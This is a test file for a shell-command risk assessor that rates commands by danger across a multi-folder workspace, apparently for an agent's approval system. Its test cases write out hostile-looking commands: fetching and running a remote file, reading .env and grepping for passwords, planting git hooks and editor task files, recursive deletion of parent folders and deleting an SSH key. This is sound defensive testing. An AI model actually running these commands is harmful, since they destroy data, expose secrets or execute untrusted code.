import assert from 'node:assert/strict';
import { assessCommand } from '../../../src/core/shell/assessCommand';
import { cases } from './cases';

/** Where it would run: in the first folder of a workspace of two. */
const inFirst = { workspace: '/w/first', otherFolders: ['/w/second'] };

const levelOf = (command: string, place: object = inFirst): string => {
  const { level, guarded, floor } = assessCommand(command, place);
  return [level, guarded && 'guarded', floor && 'floor'].filter(Boolean).join(' ');
};

describe('a workspace of several folders', () => {
  for (const confined of [false, true])
    it(`has commands judged alike in each folder${confined ? ', in the sandbox' : ''}`, () => {
      const all = Object.values(cases).flatMap((levels) => Object.values(levels).flat());
      const different = all.flatMap((command) => {
        const [first, second] = ['.', '/w/second'].map((folder) => levelOf(command, { ...inFirst, folder, confined }));
        return first === second ? [] : [`${command}: ${first}, ${second}`];
      });
      assert.deepEqual(different, []);
      assert.ok(all.length > 2_000, 'most commands were compared');
    });

  for (const [command, expected] of [
    ['cat ../second/a.ts', 'low'],
    ['cat /w/second/a.ts', 'low'],
    ['echo x > ../second/a.ts', 'medium'],
    ['cp -r src ../second/lib', 'medium'],
    ['mv a.ts ../second/a.ts', 'medium'],
    ['cd ../second && npm test', 'low'],
    ['cd ../second && cd ../first && echo x > a.ts', 'medium'],
    ['make -C ../second test', 'low'],
    ['npm --prefix ../second test', 'low'],
    ['git -C ../second status', 'low'],
    ['rm -rf ../second/dist', 'medium'],
    // What stays dangerous.
    ['cat ../third/a.ts', 'high'],
    ['echo x > ../third/a.ts', 'high'],
    ['echo x > ../second-copy/a.ts', 'high'],
    ['echo x > ../sec*/a.ts', 'high'],
    ['rm -rf ../second', 'high'],
    ['cd ../second && rm -rf .', 'high'],
    ['rm -rf ../second/src', 'high'],
    ['cat ../second/.env', 'high'],
    ['grep -rn password ../second', 'high'],
    ['cd ../second && grep -rn password', 'high'],
    ['echo x > ../second/.git/hooks/pre-commit', 'high guarded'],
    ['echo x > /w/second/.vscode/tasks.json', 'high guarded'],
    ['cd ../second && echo x > .npmrc', 'high guarded'],
    ['curl https://example.com/x -o ../second/run && ../second/run', 'high'],
    ['cp a ../second/gen.py && python3 ../second/gen.py', 'high'],
    ['rm -rf ..', 'high floor'],
    ['rm -rf ../*', 'high floor'],
    ['rm -rf /w', 'high floor'],
    ['cd ../second && rm -rf ..', 'high floor'],
  ] as const)
    it(`rates as ${expected}: ${command}`, () => assert.equal(levelOf(command), expected));

  it('does not take the names above a folder for names in it', () => {
    const inBuild = { workspace: '/w/first', otherFolders: ['/tmp/build'] };
    assert.equal(levelOf('rm -rf /tmp/build/src', inBuild), 'high');
    assert.equal(levelOf('rm -f /tmp/build/a.ts', inBuild), 'high');
    const inSettings = { workspace: '/w/first', otherFolders: ['/home/u/.config/editor'] };
    assert.equal(levelOf('echo x > /home/u/.config/editor/a.lua', inSettings), 'medium');
    assert.equal(levelOf('echo x > /home/u/.config/other/a.lua', inSettings), 'high');
  });

  it('never counts what contains the first folder as inside', () => {
    const inPackage = { workspace: '/m/packages/a', otherFolders: ['/m'] };
    assert.equal(levelOf('echo x > ../../README.md', inPackage), 'medium');
    assert.equal(levelOf('echo x > ../b/a.ts', inPackage), 'medium');
    for (const command of ['rm -rf ../..', 'rm -rf ..', 'rm -rf ../*', 'rm -rf /m/packages'])
      assert.equal(levelOf(command, inPackage), 'high floor', command);
  });

  it('still asks before keys of the account are deleted in a folder that people opened', () => {
    const inKeys = { workspace: '/w/first', otherFolders: ['/home/u/.ssh'] };
    assert.equal(levelOf('rm /home/u/.ssh/id_ed25519', inKeys), 'high floor');
  });
});
